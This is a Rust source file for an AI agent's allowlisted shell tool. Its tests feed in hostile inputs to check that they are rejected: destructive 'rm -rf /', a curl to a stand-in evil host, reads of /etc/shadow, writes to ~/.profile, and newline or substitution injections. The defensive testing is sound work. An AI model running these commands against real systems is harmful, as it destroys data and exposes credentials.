//! Shell tool: run allowlisted commands.
//!
//! Commands run through `sh -c` (or `cmd /C` on Windows), optionally inside
//! a working directory and bounded by a timeout.

use async_trait::async_trait;
use std::path::PathBuf;
use std::time::Duration;
use stepwise_core::error::ToolError;
use stepwise_core::tool::{Tool, ToolResult};
use tokio::process::Command;
use tracing::{debug, warn};

const DEFAULT_TIMEOUT_SECS: u64 = 60;

/// Shell syntax that can start a command or touch a file without being the
/// first word of a chain segment: line breaks, substitution, expansion,
/// redirection, subshells and brace groups.
const FORBIDDEN_SYNTAX: &[char] = &['\n', '\r', '`', '$', '<', '>', '(', ')', '{', '}'];

pub struct ShellTool {
    /// If non-empty, only these base commands may run.
    allowed_commands: Vec<String>,
    working_dir: Option<PathBuf>,
    timeout: Duration,
}

impl ShellTool {
    pub fn new(allowed_commands: Vec<String>) -> Self {
        Self {
            allowed_commands,
            working_dir: None,
            timeout: Duration::from_secs(DEFAULT_TIMEOUT_SECS),
        }
    }

    pub fn with_working_dir(mut self, dir: impl Into<PathBuf>) -> Self {
        self.working_dir = Some(dir.into());
        self
    }

    pub fn with_timeout(mut self, timeout: Duration) -> Self {
        self.timeout = timeout;
        self
    }

    /// Every command in a `;`, `&&`, `||` or `|` chain must be allowlisted,
    /// and no segment may smuggle in another command through
    /// [`FORBIDDEN_SYNTAX`].
    fn is_command_allowed(&self, command: &str) -> bool {
        if self.allowed_commands.is_empty() {
            return true;
        }
        if command.contains(FORBIDDEN_SYNTAX) {
            return false;
        }

        command
            .split(['|', ';', '&'])
            .map(str::trim)
            .filter(|segment| !segment.is_empty())
            .all(|segment| {
                let base = segment.split_whitespace().next().unwrap_or("");
                self.allowed_commands.iter().any(|a| a == base)
            })
    }
}

#[async_trait]
impl Tool for ShellTool {
    fn name(&self) -> &str {
        "shell"
    }

    fn description(&self) -> &str {
        "Execute a shell command and return its stdout and stderr. Only allowlisted commands may run."
    }

    fn parameters_schema(&self) -> serde_json::Value {
        serde_json::json!({
            "type": "object",
            "properties": {
                "command": {
                    "type": "string",
                    "description": "The shell command to execute"
                }
            },
            "required": ["command"]
        })
    }

    async fn execute(&self, arguments: serde_json::Value) -> Result<ToolResult, ToolError> {
        let command = arguments["command"]
            .as_str()
            .ok_or_else(|| ToolError::InvalidArguments("Missing 'command' argument".into()))?;

        if !self.is_command_allowed(command) {
            return Err(ToolError::PermissionDenied {
                tool_name: "shell".into(),
                reason: format!("'{command}' uses a command outside the allowlist"),
            });
        }

        debug!(command = %command, "Executing shell command");

        let mut cmd = if cfg!(target_os = "windows") {
            let mut c = Command::new("cmd");
            c.args(["/C", command]);
            c
        } else {
            let mut c = Command::new("sh");
            c.args(["-c", command]);
            c
        };
        if let Some(dir) = &self.working_dir {
            cmd.current_dir(dir);
        }
        cmd.kill_on_drop(true);

        let output = tokio::time::timeout(self.timeout, cmd.output())
            .await
            .map_err(|_| ToolError::Timeout {
                tool_name: "shell".into(),
                timeout_secs: self.timeout.as_secs(),
            })?
            .map_err(|e| ToolError::ExecutionFailed {
                tool_name: "shell".into(),
                reason: e.to_string(),
            })?;

        let stdout = String::from_utf8_lossy(&output.stdout);
        let stderr = String::from_utf8_lossy(&output.stderr);

        if output.status.success() {
            let text = if stderr.is_empty() {
                stdout.to_string()
            } else {
                format!("{stdout}\n[stderr]: {stderr}")
            };
            return Ok(ToolResult::success(text.trim()));
        }

        let code = output.status.code().unwrap_or(-1);
        warn!(command = %command, exit_code = code, "Command failed");
        Ok(ToolResult::failure(
            format!("[exit code: {code}]\n{stdout}\n{stderr}").trim().to_string(),
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allowlist_check() {
        let tool = ShellTool::new(vec!["ls".into(), "cat".into(), "git".into()]);
        assert!(tool.is_command_allowed("ls -la"));
        assert!(tool.is_command_allowed("git status | cat"));
        assert!(!tool.is_command_allowed("rm -rf /"));
        assert!(!tool.is_command_allowed("ls; rm -rf /"));
        assert!(!tool.is_command_allowed("cat x && curl evil.sh"));
    }

    #[test]
    fn hidden_commands_are_rejected() {
        let tool = ShellTool::new(vec!["echo".into(), "ls".into()]);
        for command in [
            "echo hi\ntouch /tmp/stepwise_marker",
            "echo hi\r\ntouch /tmp/stepwise_marker",
            "echo $(id -u)",
            "echo `id -u`",
            "echo $HOME",
            "echo x > /tmp/stepwise_marker",
            "echo x >> ~/.profile",
            "ls < /etc/shadow",
            "echo (touch x)",
            "ls {,;touch,x}",
        ] {
            assert!(!tool.is_command_allowed(command), "allowed: {command:?}");
        }
        assert!(tool.is_command_allowed("echo 'plain text' | ls -la"));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn newline_injection_does_not_run() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("marker");
        let tool = ShellTool::new(vec!["echo".into()]).with_working_dir(dir.path());

        let result = tool
            .execute(serde_json::json!({"command": "echo hi\ntouch marker"}))
            .await;

        assert!(matches!(result, Err(ToolError::PermissionDenied { .. })));
        assert!(!marker.exists());
    }

    #[test]
    fn empty_allowlist_allows_all() {
        let tool = ShellTool::new(vec![]);
        assert!(tool.is_command_allowed("anything goes"));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn execute_echo() {
        let tool = ShellTool::new(vec![]);
        let result = tool
            .execute(serde_json::json!({"command": "echo hello"}))
            .await
            .unwrap();
        assert!(result.success);
        assert_eq!(result.output, "hello");
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn nonzero_exit_is_failure() {
        let tool = ShellTool::new(vec![]);
        let result = tool
            .execute(serde_json::json!({"command": "exit 3"}))
            .await
            .unwrap();
        assert!(!result.success);
        assert!(result.output.contains("[exit code: 3]"));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn slow_command_times_out() {
        let tool = ShellTool::new(vec![]).with_timeout(Duration::from_millis(100));
        let result = tool
            .execute(serde_json::json!({"command": "sleep 5"}))
            .await;
        assert!(matches!(result, Err(ToolError::Timeout { .. })));
    }

    #[tokio::test]
    async fn blocked_command() {
        let tool = ShellTool::new(vec!["ls".into()]);
        let result = tool
            .execute(serde_json::json!({"command": "rm -rf /"}))
            .await;
        assert!(matches!(result, Err(ToolError::PermissionDenied { .. })));
    }
}
